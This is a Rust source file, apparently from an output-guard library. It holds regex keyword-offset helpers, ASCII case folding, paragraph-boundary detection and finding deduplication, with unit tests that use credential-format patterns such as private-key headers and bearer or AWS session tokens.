    let literals = seq.literals()?;
    if literals.is_empty() {
        return None;
    }
    let mut lead = 0;
    for lit in literals {
        let b = lit.as_bytes();
        let at = keywords
            .iter()
            .filter(|k| !k.is_empty() && k.len() <= b.len())
            .filter_map(|k| {
                b.windows(k.len())
                    .position(|w| w.eq_ignore_ascii_case(k.as_bytes()))
            })
            .min()?;
        lead = lead.max(at);
    }
    Some(lead)
}

/// The pattern with every class that only spells one ASCII letter in either case
/// (`[Kk]`, or `(?i)k`, which also holds the Kelvin sign) turned into the lowercase
/// letter, so that the prefixes of a case-insensitive pattern stay few enough to list.
/// Keywords match ASCII case-insensitively, so this loses nothing for `keyword_lead`.
fn fold_ascii_case(hir: &Hir) -> Hir {
    match hir.kind() {
        HirKind::Class(class) => match one_ascii_letter(class) {
            Some(letter) => Hir::literal([letter]),
            None => hir.clone(),
        },
        HirKind::Concat(parts) => Hir::concat(parts.iter().map(fold_ascii_case).collect()),
        HirKind::Alternation(parts) => {
            Hir::alternation(parts.iter().map(fold_ascii_case).collect())
        }
        HirKind::Repetition(rep) => Hir::repetition(Repetition {
            sub: Box::new(fold_ascii_case(&rep.sub)),
            ..rep.clone()
        }),
        HirKind::Capture(cap) => Hir::capture(Capture {
            sub: Box::new(fold_ascii_case(&cap.sub)),
            ..cap.clone()
        }),
        HirKind::Empty | HirKind::Literal(_) | HirKind::Look(_) => hir.clone(),
    }
}

/// The lowercase letter a class spells, if its ASCII members are one letter in both cases
/// and the rest (at most one character, such as the Kelvin sign) is not ASCII.
fn one_ascii_letter(class: &Class) -> Option<u8> {
    let mut ascii = Vec::new();
    let mut other = 0usize;
    match class {
        Class::Unicode(c) => {
            for r in c.ranges() {
                for ch in r.start()..=r.end() {
                    if ch.is_ascii() {
                        ascii.push(u8::try_from(ch).ok()?);
                    } else {
                        other += 1;
                    }
                    if ascii.len() + other > 3 {
                        return None;
                    }
                }
            }
        }
        Class::Bytes(c) => {
            for r in c.ranges() {
                for b in r.start()..=r.end() {
                    if !b.is_ascii() || ascii.len() >= 2 {
                        return None;
                    }
                    ascii.push(b);
                }
            }
        }
    }
    match ascii[..] {
        [a, b] if other <= 1 && a.is_ascii_alphabetic() && a.eq_ignore_ascii_case(&b) && a != b => {
            Some(a.to_ascii_lowercase())
        }
        _ => None,
    }
}

/// The latest paragraph start (a non-indented line after a blank line) in
/// `[floor, target]`, else the latest line start there, else `target`.
fn paragraph_start(buf: &str, base: usize, target: usize, floor: usize) -> usize {
    let b = buf.as_bytes();
    let lo = floor.max(base) - base;
    let hi = target - base;
    let mut line_start = None;
    let mut end = hi;
    // Walk line starts backwards from `hi`.
    while let Some(i) = memchr::memrchr(b'\n', &b[lo..end]) {
        let start = lo + i + 1;
        if start <= hi {
            line_start.get_or_insert(start);
            let indented = b
                .get(start)
                .is_none_or(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r'));
            if !indented && start >= 2 {
                let prev_end = start - 1;
                let prev_start = memchr::memrchr(b'\n', &b[..prev_end]).map_or(0, |i| i + 1);
                if prev_start >= lo
                    && b[prev_start..prev_end]
                        .iter()
                        .all(|c| matches!(c, b' ' | b'\t' | b'\r'))
                {
                    return start + base;
                }
            }
        }
        end = start - 1;
        if end <= lo {
            break;
        }
    }
    if lo == 0 && base == 0 {
        return 0;
    }
    line_start.map_or(target, |s| s + base)
}

/// Orders findings as [`Guard::finalize`] does and drops exact duplicates.
fn sort_findings(findings: &mut Vec<Finding>) {
    findings.sort_by(|a, b| {
        (a.span.start, a.span.end, a.category, &a.rule)
            .cmp(&(b.span.start, b.span.end, b.category, &b.rule))
            .then(b.score.total_cmp(&a.score))
    });
    findings.dedup_by(|b, a| a.span == b.span && a.rule == b.rule && a.category == b.category);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paragraph_start_prefers_blank_line_boundaries() {
        let text = "intro line\n\nSecond para\nstill second\n  indented\nlast";
        let target = text.len() - 2;
        let p = paragraph_start(text, 0, target, 0);
        assert_eq!(&text[p..p + 6], "Second");
        // Without a paragraph start in range, the latest line start.
        let floor = text.find("still").unwrap();
        let p = paragraph_start(text, 0, target, floor);
        assert_eq!(&text[p..], "last");
    }

    #[test]
    fn output_stream_is_send() {
        fn send<T: Send>() {}
        send::<OutputStream>();
    }
}

#[cfg(test)]
mod reach_tests {
    use super::*;

    #[test]
    fn default_rules_hold_back_little() {
        let guard = Guard::new().unwrap();
        let s = guard.output_stream(None);
        // The private-key rules' 9 KB windows only hold text after their keyword.
        eprintln!(
            "hold {} left {} step {} rules {}",
            s.hold, s.left, s.step, s.shared.reach.fixed
        );
        assert!(
            s.hold <= 4096,
            "hold {} left {} step {}",
            s.hold,
            s.left,
            s.step
        );
        let lead = |p: &str, ci: bool, k: &[&str]| {
            let k: Vec<String> = k.iter().map(|s| (*s).to_owned()).collect();
            keyword_lead(p, ci, &k)
        };
        assert_eq!(
            lead(
                r"-----BEGIN[ A-Z0-9]{0,40}PRIVATE KEY",
                false,
                &["-----BEGIN"]
            ),
            Some(0)
        );
        assert_eq!(
            lead(
                r"(?P<secret>\bya29\.[0-9A-Za-z_-]{30,1024})",
                false,
                &["ya29."]
            ),
            Some(0)
        );
        assert_eq!(lead(r"(?i:\bbearer)[ \t]+x", true, &["bearer"]), Some(0));
        // Case-insensitive prefixes are folded, so they stay few enough to list.
        assert_eq!(
            lead(
                r"(?i:aws[_-]?session[_-]?token|session[_-]?token|x-amz-security-token)=",
                false,
                &[
                    "session_token",
                    "sessiontoken",
                    "session-token",
                    "security-token"
                ]
            ),
            Some(6)
        );
        assert_eq!(lead(r"(?:ab|token)x", false, &["token"]), None);
        assert_eq!(lead(r"[a-z]{0,40}token", false, &["token"]), None);
        // `[Kk]` is one letter; `[Kx]` is not.
        assert_eq!(lead(r"[Kk]ey=", false, &["key"]), Some(0));
        assert_eq!(lead(r"[Kx]ey=", false, &["key"]), None);
    }
}
